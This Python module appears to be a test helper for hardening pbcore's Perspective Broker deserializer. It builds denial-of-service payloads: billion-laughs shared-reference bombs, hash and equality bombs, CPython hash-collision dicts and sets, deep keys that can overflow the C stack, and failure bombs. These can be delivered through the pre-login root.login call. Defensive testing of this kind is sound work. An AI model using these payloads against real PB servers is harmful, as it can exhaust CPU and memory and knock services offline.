"""Hostile but well-formed PB input: small messages that are expensive to hold or to process.

Everything here is a raw s-expression (nested lists of bytes, ints and floats,
what :func:`pbcore.banana.encode` takes), never a Python value: building the
values is the attack, so the attacker never does it.

Shared references ("laughs", as in the billion laughs of XML): jelly's
``[b"reference", n, form]`` names a value and ``[b"dereference", n]`` uses it
again, so a level made of two dereferences of the level below doubles the
expanded size with a few bytes. A value built that way is cheap to hold (it
stays shared), but anything that walks it expanded (``hash``, ``==``,
``repr``/``str``) does work exponential in the message size.

The levels can be written two ways:

* *siblings* (the default): every level is an item of one holder container,
  each defined after the one it dereferences. The nesting stays shallow
  whatever the depth, so any depth fits under ``Limits.max_depth``; the
  holder expands to about ``2 ** (depth + 1)`` leaves and its last item to
  ``2 ** depth``.
* *nested*: each level holds the definition of the level below, so the form
  is about ``2 * depth`` lists deep (``Limits.max_depth`` caps it near depth
  45); it expands to ``2 ** depth`` leaves.

Message builders: :func:`call`, :func:`answer`, :func:`error`, and the login
steps a raw client uses (:func:`login_call`, :func:`respond_call`). Before
login a server's root is a :mod:`pbcore.cred` portal wrapper; its
``login(username)`` unjellies its argument before anything is checked, so
``call(n, b"root", b"login", args(bomb))`` reaches the unjellier of any PB
server that accepts connections.
"""

from __future__ import annotations

from typing import Any, Final, Literal

from pbcore import banana

#: An s-expression (kept as Any: the recursive alias gains nothing in these builders).
Sexp = Any

#: The copy tag of a failure on the wire (Twisted's; pbcore's ``FAILURE_TAG``).
FAILURE_TAG: Final = b"twisted.spread.pb.CopyableFailure"

#: CPython reduces int hashes modulo this prime (on 64-bit builds): multiples of it hash to 0.
HASH_MODULUS: Final = 2**61 - 1

Container = Literal["tuple", "list", "dictionary"]


# ---------------------------------------------------------------------------
# Jelly forms


def text(value: str) -> Sexp:
    """A str, as jelly writes it."""
    return [b"unicode", value.encode("utf-8")]


def none() -> Sexp:
    return [b"None"]


def args(*items: Sexp) -> Sexp:
    """A call's positional arguments: a jellied tuple."""
    return [b"tuple", *items]


def kwargs(**items: Sexp) -> Sexp:
    """A call's keyword arguments: a jellied dict of str keys."""
    return [b"dictionary", *([text(name), value] for name, value in items.items())]


def _pair_of(container: Container, below: Sexp) -> Sexp:
    """A container holding *below* twice (the doubling step)."""
    if container == "dictionary":
        return [b"dictionary", [0, below], [1, below]]
    return [container.encode(), below, below]


def laughs(depth: int, *, container: Container = "tuple", nested: bool = False, first_ref: int = 1) -> Sexp:
    """A value whose expanded form has about ``2 ** depth`` leaves, in O(depth) bytes.

    *container* is what each level is: a ``tuple`` (hashable: the one for key
    bombs), a ``list`` or a ``dictionary`` (values only: for the walks that
    ``repr``, ``==`` and the jellier do). With *nested* the form is one
    level holding the next (exactly ``2 ** depth`` leaves, ``depth`` up to
    about 45 under the default limits); otherwise the levels are siblings in
    a holder of the same container kind (any depth, about ``2 ** (depth + 1)``
    leaves). Reference numbers are ``first_ref`` to ``first_ref + depth - 1``:
    give two bombs of one message distinct ranges.
    """
    if depth < 1:
        raise ValueError("depth must be at least 1")
    last = first_ref + depth - 1
    if nested:
        form: Sexp = [b"reference", first_ref, _pair_of(container, 0)]
        for ref in range(first_ref + 1, last + 1):
            # The first item defines the level below, the second uses it again.
            inner = _pair_of(container, [b"dereference", ref - 1])
            if container == "dictionary":
                inner[1][1] = form
            else:
                inner[1] = form
            form = [b"reference", ref, inner]
        return form
    levels: list[Sexp] = [[b"reference", first_ref, _pair_of(container, 0)]]
    for ref in range(first_ref + 1, last + 1):
        levels.append([b"reference", ref, _pair_of(container, [b"dereference", ref - 1])])
    if container == "dictionary":
        return [b"list", *levels]  # a dict of dicts would need keys: a list holds them
    return [container.encode(), *levels]


def leaves(depth: int, *, nested: bool = False) -> int:
    """How many leaves :func:`laughs` expands to (for reports)."""
    return int(2**depth if nested else 2 ** (depth + 1) - 2)


# ---------------------------------------------------------------------------
# Hash bombs: a laughs tuple where it gets hashed


def dict_key_bomb(depth: int, *, nested: bool = False) -> Sexp:
    """A dict whose one key is a laughs tuple: hashing the key walks every leaf."""
    return [b"dictionary", [laughs(depth, nested=nested), 1]]


def set_bomb(depth: int, *, nested: bool = False) -> Sexp:
    """A set whose one member is a laughs tuple."""
    return [b"set", laughs(depth, nested=nested)]


def frozenset_bomb(depth: int, *, nested: bool = False) -> Sexp:
    """A frozenset whose one member is a laughs tuple."""
    return [b"frozenset", laughs(depth, nested=nested)]


def equal_pair_bomb(depth: int) -> Sexp:
    """A set of two laughs tuples, equal but distinct at every level.

    Their hashes are equal, so the second insertion compares them with
    ``==``, which cannot take the identity shortcut anywhere: a second
    exponential walk even where hashing were made cheap.
    """
    return [b"set", laughs(depth, first_ref=1), laughs(depth, first_ref=depth + 1)]


# ---------------------------------------------------------------------------
# Failures


def failure(value: Sexp, *, kind: bytes = b"builtins.ValueError", traceback: str = "Traceback unavailable\n") -> Sexp:
    """A ``CopyableFailure`` copy, as a PB peer sends an exception (state as pbcore and Twisted send it)."""
    state = [
        b"dictionary",
        [text("type"), kind],
        [text("value"), value],
        [text("traceback"), text(traceback)],
        [text("parents"), [b"list", text(kind.decode())]],
        [text("frames"), [b"list"]],
        [text("stack"), [b"list"]],
        [text("tb"), none()],
        [text("count"), 0],
    ]
    return [FAILURE_TAG, state]


def failure_bomb(depth: int, *, container: Container = "tuple") -> Sexp:
    """A failure whose ``value`` is a laughs structure: turning it into text walks every leaf."""
    return failure(laughs(depth, container=container))


# ---------------------------------------------------------------------------
# Hash collisions


def colliding_ints(count: int) -> list[int]:
    """*count* distinct ints that all hash to 0 (multiples of 2**61 - 1)."""
    return [k * HASH_MODULUS for k in range(1, count + 1)]


def collision_dict(count: int) -> Sexp:
    """A dict of *count* int keys that all hash alike: each insertion compares with all the others."""
    return [b"dictionary", *([key, 0] for key in colliding_ints(count))]


def collision_set(count: int) -> Sexp:
    """A set of *count* ints that all hash alike."""
    return [b"set", *colliding_ints(count)]


def collision_tuples(count: int) -> Sexp:
    """A set of *count* distinct pairs of colliding ints: every pair hashes like every other.

    A tuple's hash mixes its items' hashes only, so pairs of ints that hash
    to 0 all hash the same; built from about ``sqrt(count)`` ints.
    """
    side = 1
    while side * side < count:
        side += 1
    ints = colliding_ints(side)
    pairs = [[b"tuple", a, b] for a in ints for b in ints][:count]
    return [b"set", *pairs]


# ---------------------------------------------------------------------------
# Deep by reference


def deep_key(depth: int) -> Sexp:
    """A dict whose key is a tuple nested *depth* deep, each level defined shallow.

    ``{0: [l1, l2, ...], ((((...)))): 1}`` where level ``i`` is
    ``[reference, i, [tuple, [dereference, i - 1]]]``: the message is about
    5 lists deep, the key *depth* deep. CPython hashes a tuple recursively in
    C with no guard, so a deep enough key can overflow the C stack.
    """
    levels: list[Sexp] = [[b"reference", 1, [b"tuple", 0]]]
    for ref in range(2, depth + 1):
        levels.append([b"reference", ref, [b"tuple", [b"dereference", ref - 1]]])
    return [b"dictionary", [0, [b"list", *levels]], [[b"dereference", depth], 1]]


def deep_holder_key(depth: int) -> Sexp:
    """A dict whose key is the tuple of all the levels of :func:`deep_key`: hashing it is quadratic."""
    levels: list[Sexp] = [[b"reference", 1, [b"tuple", 0]]]
    for ref in range(2, depth + 1):
        levels.append([b"reference", ref, [b"tuple", [b"dereference", ref - 1]]])
    return [b"dictionary", [[b"tuple", *levels], 1]]


# ---------------------------------------------------------------------------
# PB messages


def call(
    request_id: int,
    object_id: bytes | int,
    method: bytes,
    args_sexp: Sexp,
    kwargs_sexp: Sexp | None = None,
    *,
    answer_required: bool = True,
) -> Sexp:
    """``[message, request_id, object_id, method, answer_required, args, kwargs]``."""
    kw = [b"dictionary"] if kwargs_sexp is None else kwargs_sexp
    return [b"message", request_id, object_id, method, int(answer_required), args_sexp, kw]


def answer(request_id: int, sexp: Sexp) -> Sexp:
    """``[answer, request_id, value]``."""
    return [b"answer", request_id, sexp]


def error(request_id: int, sexp: Sexp) -> Sexp:
    """``[error, request_id, failure]``."""
    return [b"error", request_id, sexp]


def login_call(request_id: int, username_sexp: Sexp) -> Sexp:
    """``root.login(username)``: what any client may send before logging in."""
    return call(request_id, b"root", b"login", args(username_sexp))


def respond_call(request_id: int, challenger: int, response_sexp: Sexp, mind: Sexp | None = None) -> Sexp:
    """``challenger.respond(response, mind)``: the second login step."""
    return call(request_id, challenger, b"respond", args(response_sexp, none() if mind is None else mind))


def size(sexp: Sexp, dialect: bytes = b"pb") -> int:
    """How many bytes *sexp* takes on the wire (any size: no limits applied)."""
    big = banana.Limits(size_limit=2**31, max_expression_bytes=2**40, prefix_limit=64)
    return len(banana.encode(sexp, dialect, big))


def message_size(body: Sexp) -> int:
    """The wire size of a call carrying *body* as its one argument."""
    return size(call(1, 1, b"echo", args(body)))


#: The kinds of bomb a test can ask for by name: name -> builder of one size.
BOMBS: Final = {
    "dict-key": dict_key_bomb,
    "dict-key-nested": lambda depth: dict_key_bomb(depth, nested=True),
    "set-member": set_bomb,
    "frozenset-member": frozenset_bomb,
    "equal-pair": equal_pair_bomb,
    "list-laughs": lambda depth: laughs(depth, container="list"),
    "dict-laughs": lambda depth: laughs(depth, container="dictionary"),
    "failure": failure_bomb,
    "collision-dict": collision_dict,
    "collision-set": collision_set,
    "collision-tuples": collision_tuples,
    "deep-key": deep_key,
    "deep-holder-key": deep_holder_key,
}


def build(kind: str, n: int) -> Sexp:
    """The bomb of kind *kind* (a key of :data:`BOMBS`) at size *n* (a depth or a count)."""
    return BOMBS[kind](n)
